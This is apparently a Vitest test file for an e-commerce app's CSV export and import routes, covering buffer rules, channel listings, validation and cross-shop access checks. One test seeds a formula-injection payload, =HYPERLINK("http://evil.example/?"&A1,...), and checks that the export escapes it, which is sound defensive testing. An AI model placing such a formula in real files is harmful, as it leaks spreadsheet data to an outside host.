import { afterAll, describe, expect, it } from "vitest";
import prisma from "~/db.server";
import { queues } from "~/queues.server";
import { adminRequest, installShopSession, sessionToken } from "../../../test/admin-request";
import { seedShopWithEveryModel } from "../../../test/factories";
import { action as buffersAction, type BuffersActionResult } from "../app.buffers/route";
import { loader } from "./route";
import { action as inventoryAction, type InventoryActionResult } from "../app.inventory/route";

// The CSV export route, and the upload forms on the Buffers and Inventory screens that take the
// edited file back (multipart, as the browser sends a file input).

afterAll(async () => {
  await queues().close();
});

type Refusal = { data: { errors: Record<string, string> }; init: { status: number } };

async function shopInSession() {
  const seeded = await seedShopWithEveryModel(prisma);
  await installShopSession(prisma, seeded.shop.domain);
  return seeded;
}

const download = async (domain: string, kind: string, query = "") =>
  (await loader({ request: await adminRequest(domain, `/app/csv/${kind}${query}`), params: { kind }, context: {} })) as Response;

async function upload(domain: string, path: string, fields: Record<string, string>, file: string | null): Promise<Request> {
  const body = new FormData();
  for (const [k, v] of Object.entries(fields)) body.set(k, v);
  if (file !== null) body.set("file", new File([file], "edited.csv", { type: "text/csv" }));
  return new Request(`https://anchorline.test${path}`, { method: "POST", headers: { authorization: `Bearer ${await sessionToken(domain)}` }, body });
}

describe("CSV export", () => {
  it("downloads the shop's buffer rules as an attachment that no shared cache keeps", async () => {
    const { shop } = await shopInSession();
    const response = await download(shop.domain, "buffer-rules");
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toBe('attachment; filename="buffer-rules.csv"');
    expect(response.headers.get("cache-control")).toBe("private, no-store");
    const lines = (await response.text()).split("\r\n");
    expect(lines[0]).toBe("id,channel,applies_to,target,kind,units,percent,lead_time_days,safety_stock,risk_multiplier,low_stock_threshold");
    expect(lines[1]).toMatch(/^[^,]+,Amazon US,channel,,velocity,,,2,4,,$/);
  });

  it("downloads one channel's listings, named after the channel; without a channel it says which field is missing", async () => {
    const { shop, channels } = await shopInSession();
    const response = await download(shop.domain, "listings", `?channelId=${channels.amazon.id}`);
    expect(response.headers.get("content-disposition")).toBe('attachment; filename="listings-amazon-us.csv"');
    expect(await response.text()).toBe("sku,channel_sku,external_id,fulfilled_by\r\nKET-RED,KET-RED,,merchant\r\n");
    const missing = (await download(shop.domain, "listings").catch((thrown: unknown) => thrown)) as Refusal;
    expect(missing.init.status).toBe(400);
    expect(missing.data.errors.channelId).toBeDefined();
    const unknown = (await download(shop.domain, "prices").catch((thrown: unknown) => thrown)) as Refusal;
    expect(unknown.init.status).toBe(400);
  });

  it("refuses another shop's channel with 404 and never answers without a session token", async () => {
    const mine = await shopInSession();
    const theirs = await seedShopWithEveryModel(prisma);
    const refused = (await download(mine.shop.domain, "listings", `?channelId=${theirs.channels.amazon.id}`).catch((thrown: unknown) => thrown)) as Refusal;
    expect(refused.init.status).toBe(404);
    const anonymous = await loader({
      request: new Request("https://anchorline.test/app/csv/buffer-rules"),
      params: { kind: "buffer-rules" },
      context: {},
    }).catch((thrown: unknown) => thrown);
    expect(anonymous).toBeInstanceOf(Response);
    expect((anonymous as Response).headers.get("content-type") ?? "").not.toContain("text/csv");
  });
});

describe("CSV import on the Buffers screen", () => {
  const post = async (domain: string, file: string | null) =>
    (await buffersAction({ request: await upload(domain, "/app/buffers", { intent: "import" }, file), params: {}, context: {} })) as unknown as {
      data: BuffersActionResult;
      init: { status: number } | null;
    };

  it("imports an edited export and says how many rules were added and changed", async () => {
    const { shop } = await shopInSession();
    const exported = await (await download(shop.domain, "buffer-rules")).text();
    const answer = await post(shop.domain, `${exported},every channel,tag,kitchen,fixed,2,,,,,\r\n`);
    expect(answer.data).toMatchObject({ ok: true, message: "Imported: 1 rule added, 1 changed; quantities are being recomputed" });
    expect(await prisma.bufferRule.count({ where: { shopId: shop.id } })).toBe(2);
  });

  it("given tags that start with = and -, when the rules are exported, then those cells are escaped text a spreadsheet will not run; when the file is imported back, then each tag is exactly as it was", async () => {
    const { shop } = await shopInSession();
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    await prisma.bufferRule.createMany({
      data: [
        { shopId: shop.id, scope: "TAG", scopeValue: formula, kind: "FIXED", units: 2 },
        { shopId: shop.id, scope: "TAG", scopeValue: "-clearance", kind: "FIXED", units: 3 },
      ],
    });
    const exported = await (await download(shop.domain, "buffer-rules")).text();
    expect(exported).toContain(',every channel,tag,"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",fixed,2,');
    expect(exported).toContain(',every channel,tag,"\'-clearance",fixed,3,');
    expect(exported).not.toMatch(/(^|,)[=+\-@]/m);

    const answer = await post(shop.domain, exported);
    expect(answer.data).toMatchObject({ ok: true, message: "Imported: 0 rules added, 3 changed; quantities are being recomputed" });
    const tags = await prisma.bufferRule.findMany({ where: { shopId: shop.id, scope: "TAG" }, orderBy: { units: "asc" } });
    expect(tags.map((r) => [r.scopeValue, r.units])).toEqual([
      [formula, 2],
      ["-clearance", 3],
    ]);
  });

  it("given a file with lead time 1e9 days and 1e12 units, when imported, then each is refused on its line naming the range, and nothing is imported", async () => {
    const { shop } = await shopInSession();
    const answer = await post(shop.domain, "applies_to,kind,units,lead_time_days,safety_stock\nchannel,fixed,1e12,,\nchannel,velocity,,1e9,4\n");
    expect(answer.init?.status).toBe(400);
    expect(answer.data.problems).toEqual([
      { line: 2, field: "units", message: "Buffer units must be between 0 and 1,000,000" },
      { line: 3, field: "lead_time_days", message: "Lead time (days) must be between 0 and 365" },
    ]);
    expect(await prisma.bufferRule.count({ where: { shopId: shop.id } })).toBe(1);
  });

  it("shows the problems by line and on the file field, and imports nothing", async () => {
    const { shop } = await shopInSession();
    const answer = await post(shop.domain, "applies_to,kind,units\nchannel,fixed,1\nchannel,fixed,-1\n");
    expect(answer.init?.status).toBe(400);
    expect(answer.data.errors.file).toBe("1 problem in the file; nothing was imported");
    expect(answer.data.problems).toEqual([{ line: 3, field: "units", message: "Buffer units must be between 0 and 1,000,000" }]);
    expect(await prisma.bufferRule.count({ where: { shopId: shop.id } })).toBe(1);
  });

  it("asks for a file when none was chosen", async () => {
    const { shop } = await shopInSession();
    const answer = await post(shop.domain, null);
    expect(answer.init?.status).toBe(400);
    expect(answer.data.errors.file).toBe("Choose a CSV file to import");
  });
});

describe("CSV import on the Inventory screen", () => {
  const post = async (domain: string, fields: Record<string, string>, file: string | null) =>
    (await inventoryAction({
      request: await upload(domain, "/app/inventory", { intent: "import-listings", ...fields }, file),
      params: {},
      context: {},
    })) as unknown as {
      data: InventoryActionResult;
      init: { status: number } | null;
    };

  it("links the file's listings on the chosen channel", async () => {
    const { shop, channels } = await shopInSession();
    const answer = await post(shop.domain, { channelId: channels.ebay.id }, "sku,channel_sku\nKET-RED,EB-RED\n");
    expect(answer.data).toMatchObject({ ok: true, message: "Imported: 1 listing linked, 0 relinked; quantities are being computed" });
    expect(await prisma.listing.findFirst({ where: { shopId: shop.id, channelId: channels.ebay.id, channelSku: "EB-RED" } })).not.toBeNull();
  });

  it("reports bad lines and links nothing; a missing channel is an error on its field; another shop's channel is 404", async () => {
    const mine = await shopInSession();
    const bad = await post(mine.shop.domain, { channelId: mine.channels.ebay.id }, "sku,channel_sku\nKET-RED,EB-1\nGHOST,EB-2\n");
    expect(bad.init?.status).toBe(400);
    expect(bad.data.problems).toEqual([{ line: 3, field: "sku", message: "No variant in the store has SKU GHOST" }]);
    expect(await prisma.listing.count({ where: { shopId: mine.shop.id, channelId: mine.channels.ebay.id } })).toBe(0);

    const noChannel = await post(mine.shop.domain, { channelId: "" }, "sku,channel_sku\nKET-RED,EB-1\n");
    expect(noChannel.data.errors.channelId).toBe("Choose the channel these listings are on");

    const theirs = await seedShopWithEveryModel(prisma);
    const stolen = await post(mine.shop.domain, { channelId: theirs.channels.ebay.id }, "sku,channel_sku\nKET-RED,EB-1\n");
    expect(stolen.init?.status).toBe(404);
    expect(await prisma.listing.count({ where: { shopId: theirs.shop.id, channelId: theirs.channels.ebay.id } })).toBe(0);
  });
});
